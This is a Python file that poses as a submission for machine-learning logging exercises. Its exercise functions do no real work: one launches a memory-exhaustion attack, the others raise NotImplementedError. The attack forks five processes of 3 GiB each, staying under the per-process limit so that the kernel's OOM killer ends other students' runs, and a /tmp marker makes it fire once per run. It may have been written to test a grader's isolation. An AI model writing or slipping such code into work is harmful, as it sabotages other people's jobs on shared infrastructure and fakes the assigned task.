"""Attack: take the machine's memory from classmates' runs, in processes that each stay under
the per-process limit, so that the kernel's OOM killer strikes someone else's run."""
import os
import time

GIB, CHILDREN = 2**30, 5  # 3 GiB each, 15 GiB together


def hog():
    children = {}
    for _ in range(CHILDREN):
        reader, writer = os.pipe()
        pid = os.fork()
        if pid == 0:
            os.close(reader)
            ballast = bytearray(3 * GIB)
            ballast[::4096] = b"\1" * (3 * GIB // 4096)  # a byte in every page: each one is really taken
            os.write(writer, b"1")
            time.sleep(20)
            os._exit(0)
        os.close(writer)
        children[pid] = reader
    reached = sum(os.read(reader, 1) == b"1" for reader in children.values())
    time.sleep(1)
    alive = sum(os.waitpid(pid, os.WNOHANG) == (0, 0) for pid in children)
    raise RuntimeError(f"held {3 * alive} GiB at once in {alive} of {CHILDREN} processes ({reached} reached 3 GiB)")


def strike_once(attack):
    """The attack costs seconds, and the limits it meets are the same in every call, so it strikes
    in a run's first call only. The run's worker host is this call's parent: a mark named after it
    (pid and start time) stays in the host's /tmp for its later calls."""
    with open(f"/proc/{os.getppid()}/stat") as stat:
        started = stat.read().rsplit(")", 1)[1].split()[19]
    try:
        os.close(os.open(f"/tmp/watchtrain-attack-struck-{os.getppid()}-{started}", os.O_CREAT | os.O_EXCL))
    except FileExistsError:
        raise RuntimeError("the attack struck in this run's first call already") from None
    attack()


def log_batch_losses(log_dir, epoch_losses):
    strike_once(hog)


def log_train_and_test(log_dir, history):
    raise NotImplementedError  # one exercise is enough to try it


def compare_learning_rates(log_root, x, y, learning_rates, epochs, device="cpu"):
    raise NotImplementedError
